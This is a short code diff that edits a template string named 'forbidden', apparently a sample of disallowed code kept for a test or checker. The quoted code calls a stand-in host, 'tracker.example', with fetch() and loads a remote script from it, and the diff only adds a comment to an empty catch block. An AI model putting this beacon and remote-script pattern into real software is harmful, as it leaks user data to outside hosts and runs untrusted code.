@@ -29,7 +29,9 @@ const forbidden = `
     fetch(\`https://tracker.example/\${at}\`).catch(() => undefined);
     try {
       document.createElement('script').src = \`https://tracker.example/\${at}.js\`;
-    } catch {}
+    } catch {
+      // Refused: what is looked at is the report of it.
+    }
   }
 `;
 
